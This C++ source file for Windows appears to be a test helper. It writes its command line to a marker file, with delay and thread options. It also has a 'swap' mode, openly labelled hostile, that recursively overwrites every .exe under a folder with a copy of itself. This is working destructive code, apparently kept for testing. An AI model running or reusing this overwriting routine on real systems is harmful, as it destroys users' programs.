// Marker program for E lines: writes its own command line into a marker file
// and exits.
//   run_marker [marker file [delay ms [thread]]]
//   run_marker swap FOLDER: a hostile program instead, which overwrites every
//   .exe below FOLDER with itself (a copy waiting to be started among them).
// Without a file it writes marker.txt beside itself. With a delay it sleeps
// first; with "thread" the primary thread ends at once and a second thread
// writes the marker once the event run_marker_release is set (or the delay
// has passed).
#include <windows.h>
#include <stdlib.h>
#include <stdio.h>
#include <string.h>

static char gMarker[MAX_PATH];
static DWORD gDelay;

static void WriteMarker() {
  HANDLE file = CreateFileA(gMarker, GENERIC_WRITE, 0, nullptr, CREATE_ALWAYS,
                            FILE_ATTRIBUTE_NORMAL, nullptr);
  if (file == INVALID_HANDLE_VALUE) return;
  const char* line = GetCommandLineA();
  DWORD written = 0;
  WriteFile(file, line, static_cast<DWORD>(strlen(line)), &written, nullptr);
  CloseHandle(file);
}

static DWORD WINAPI LateWriter(LPVOID) {
  HANDLE release = CreateEventA(nullptr, TRUE, FALSE, "run_marker_release");
  WaitForSingleObject(release, gDelay);
  WriteMarker();
  ExitProcess(0);
}

static void Swap(const char* folder) {
  char self[MAX_PATH], pattern[MAX_PATH], path[MAX_PATH];
  GetModuleFileNameA(nullptr, self, MAX_PATH);
  snprintf(pattern, MAX_PATH, "%s\\*", folder);
  WIN32_FIND_DATAA entry;
  HANDLE search = FindFirstFileA(pattern, &entry);
  if (search == INVALID_HANDLE_VALUE) return;
  do {
    if (entry.cFileName[0] == '.') continue;
    snprintf(path, MAX_PATH, "%s\\%s", folder, entry.cFileName);
    size_t length = strlen(path);
    if (entry.dwFileAttributes & FILE_ATTRIBUTE_DIRECTORY) Swap(path);
    else if (length > 4 && _stricmp(path + length - 4, ".exe") == 0) CopyFileA(self, path, FALSE);
  } while (FindNextFileA(search, &entry));
  FindClose(search);
}

int main(int argc, char** argv) {
  if (argc > 2 && strcmp(argv[1], "swap") == 0) {
    Swap(argv[2]);
    return 0;
  }
  if (argc > 1) {
    strncpy(gMarker, argv[1], MAX_PATH - 1);
  } else {
    GetModuleFileNameA(nullptr, gMarker, MAX_PATH);
    char* slash = strrchr(gMarker, '\\');
    if (slash) strcpy(slash + 1, "marker.txt");
  }
  if (argc > 2) gDelay = static_cast<DWORD>(atoi(argv[2]));
  if (argc > 3 && strcmp(argv[3], "thread") == 0) {
    CreateThread(nullptr, 0, LateWriter, nullptr, 0, nullptr);
    ExitThread(0);
  }
  Sleep(gDelay);
  WriteMarker();
  return 0;
}
